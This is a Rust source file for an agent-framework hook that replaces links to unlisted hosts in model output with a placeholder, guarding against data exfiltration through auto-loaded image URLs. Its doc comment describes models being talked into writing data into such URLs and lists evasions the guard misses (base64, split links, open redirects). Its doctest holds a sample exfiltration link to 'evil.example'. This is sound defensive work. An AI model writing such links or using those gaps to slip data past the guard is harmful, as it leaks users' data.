//! The hook that removes links to hosts that are not listed.

use std::fmt;
use std::sync::Arc;

use hooks_agent_core::__forward_hook as forward_hook;
use hooks_agent_core::hook::{AgentHook, Rewrite};
use hooks_agent_core::model::{Find, Finding, Rewriter};

use crate::egress::places::next_place;
use crate::egress::scan::{Scanned, scan};
use crate::expression::HostPattern;

/// What stands in place of a link.
const REMOVED: &str = "about:blank#removed";

/// Removes links to hosts that are not listed from what the model says: a page that shows an answer loads its images
/// at once, and their URLs carry whatever the model was talked into writing there.
///
/// It finds them in plain text, Markdown, HTML and CSS alike: `https://host`, also without slashes, `www.host`,
/// and `//host` where a page takes it for one, as in `](//host)` or `src="//host"`. Entities of HTML, tabs and
/// newlines in a URL, backslashes, escapes of CSS and JSON, upper case, users, ports and other spellings of a host are
/// undone, as browsers do; where programs differ in what they make of a link, it is removed. Only the URL is replaced, by `about:blank#removed`; the text around it stays. In a stream, a URL is held back until it
/// has ended, up to 2 KiB of it, and every cut of the stream into chunks gives the same text.
///
/// It does not find a host that is not written as one: in base64, split over several links, or behind an open redirect of
/// a listed host. A link to a listed host may carry anything in its path.
///
/// | setting | default |
/// |---|---|
/// | the hosts: `api.example`, or all below a domain, `*.corp.example` | required; none removes every link |
/// | [`output`](Self::output): answers, summaries and thoughts | yes |
/// | [`tool_results`](Self::tool_results), for front ends that show them | no: the model reads pages by their links |
/// | [`tool_arguments`](Self::tool_arguments), for front ends that show them | no: what tools may reach is for [`Rules`](crate::Rules) |
///
/// Its priority is 10, with the hooks that redact. It is inherited by sub-agents.
///
/// ```
/// use hooks_agent::builtin::guard::EgressGuard;
/// use hooks_agent::prelude::*;
///
/// # futures::executor::block_on(async {
/// let model = ScriptedModel::new("fixed", |_| "![x](https://evil.example/?q=code-1234) and https://wiki.corp.example");
/// let guard = EgressGuard::new(["*.corp.example"])?;
/// let agent = ReActAgent::builder("assistant").model(model).hook(guard).build()?;
/// assert_eq!(
///     agent.call("Hello").await?.text(),
///     "![x](about:blank#removed) and https://wiki.corp.example"
/// );
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// # }).unwrap();
/// ```
#[derive(Clone)]
#[must_use = "an agent runs it if it is added to its builder"]
pub struct EgressGuard {
    links: Links,
    rewrite: Rewrite,
}

/// Why a guard cannot be made.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum EgressError {
    /// One of the hosts is none.
    #[error("{0}")]
    Host(String),
}

impl EgressGuard {
    /// Creates a guard that lets links to these hosts pass.
    ///
    /// # Errors
    /// [`EgressError::Host`] for a text that is no host, and no domain such as `*.corp.example`.
    pub fn new(hosts: impl IntoIterator<Item = impl AsRef<str>>) -> Result<Self, EgressError> {
        let hosts: Result<Vec<_>, _> =
            hosts.into_iter().map(|host| HostPattern::new(host.as_ref())).collect();
        let links = Links { hosts: hosts.map_err(EgressError::Host)?.into() };
        let rewrite = Rewrite::from(links.rewriter());
        Ok(Self { links, rewrite })
    }

    /// Sets whether answers, summaries and thoughts are searched.
    pub fn output(mut self, search: bool) -> Self {
        self.rewrite = self.rewrite.output(search);
        self
    }

    /// Sets whether results, errors and progress of tools are searched.
    pub fn tool_results(mut self, search: bool) -> Self {
        self.rewrite = self.rewrite.tool_results(search);
        self
    }

    /// Sets whether arguments of tool calls are searched.
    pub fn tool_arguments(mut self, search: bool) -> Self {
        self.rewrite = self.rewrite.tool_arguments(search);
        self
    }
}

#[derive(Clone)]
struct Links {
    hosts: Arc<[HostPattern]>,
}

impl Links {
    fn rewriter(&self) -> Rewriter {
        let id = format!("egress/{:?}", self.hosts);
        Rewriter::new(self.clone()).known_as(id)
    }
}

impl Find for Links {
    fn find(&self, text: &str, from: usize) -> Option<Finding> {
        let mut at = from;
        while let Some(place) = next_place(text, at) {
            if let Scanned::Link(range) = scan(text, place, &self.hosts, true) {
                return Some(Finding::Replace { range, text: REMOVED.to_owned() });
            }
            at = place + 1;
        }
        None
    }

    fn settled(&self, text: &str, from: usize) -> usize {
        let mut at = from;
        while let Some(place) = next_place(text, at) {
            match scan(text, place, &self.hosts, false) {
                Scanned::Open => return place,
                Scanned::Link(range) => at = range.end,
                Scanned::Nothing => at = place + 1,
            }
        }
        text.len()
    }
}

impl AgentHook for EgressGuard {
    forward_hook! {
        self => AgentHook, &self.rewrite;
        priority events sync_events answers around answers_around inherit always role foreign_guard
        on_event_now around_model_call around_tool_call
    }
}

impl fmt::Debug for EgressGuard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EgressGuard")
            .field("hosts", &self.links.hosts)
            .field("rewrite", &self.rewrite)
            .finish()
    }
}
